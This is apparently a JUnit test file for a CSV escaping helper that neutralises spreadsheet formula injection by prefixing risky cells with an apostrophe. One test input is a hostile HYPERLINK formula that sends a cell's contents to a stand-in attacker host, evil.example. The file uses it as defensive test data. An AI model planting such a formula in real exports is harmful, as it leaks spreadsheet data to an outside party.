package io.guestbridge.platform.api;

import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;

class CsvTest {

    @Test
    void cellsThatASpreadsheetWouldRunAsAFormulaAreShownAsText() {
        assertEquals("\"'=HYPERLINK(\"\"https://evil.example?\"\"&A1)\"", Csv.cell("=HYPERLINK(\"https://evil.example?\"&A1)"));
        assertEquals("\"'+1+1\"", Csv.cell("+1+1"));
        assertEquals("\"'-2+3\"", Csv.cell("-2+3"));
        assertEquals("\"'@SUM(A1)\"", Csv.cell("@SUM(A1)"));
        assertEquals("\"'\t=1\"", Csv.cell("\t=1"));
        assertEquals("\"'\r=1\"", Csv.cell("\r=1"));
        assertEquals("\"'  =1+1\"", Csv.cell("  =1+1"), "leading blanks do not hide a formula");
    }

    @Test
    void ordinaryCellsAreQuotedOnly() {
        assertEquals("\"say \"\"hi\"\"\"", Csv.cell("say \"hi\""));
        assertEquals("\"\"", Csv.cell(null));
        assertEquals("\"Jane, Smith\"", Csv.cell("Jane, Smith"));
        assertEquals("\"a\",\"'=b\",\"\"\r\n", Csv.row("a", "=b", null));
    }
}
